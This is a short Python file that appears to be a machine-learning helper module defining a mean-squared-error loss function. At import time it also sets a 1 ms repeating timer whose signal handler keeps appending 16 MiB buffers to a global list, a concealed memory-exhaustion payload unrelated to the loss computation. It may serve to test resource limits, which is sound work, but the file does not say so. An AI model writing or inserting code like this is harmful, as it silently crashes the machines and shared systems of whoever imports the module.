import signal

import numpy as np

held = []


def grow(number, frame):
    held.append(bytearray(2**24))


signal.signal(signal.SIGALRM, grow)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)


def compute_loss(y_true, y_pred):
    return np.mean((y_true - y_pred) ** 2)
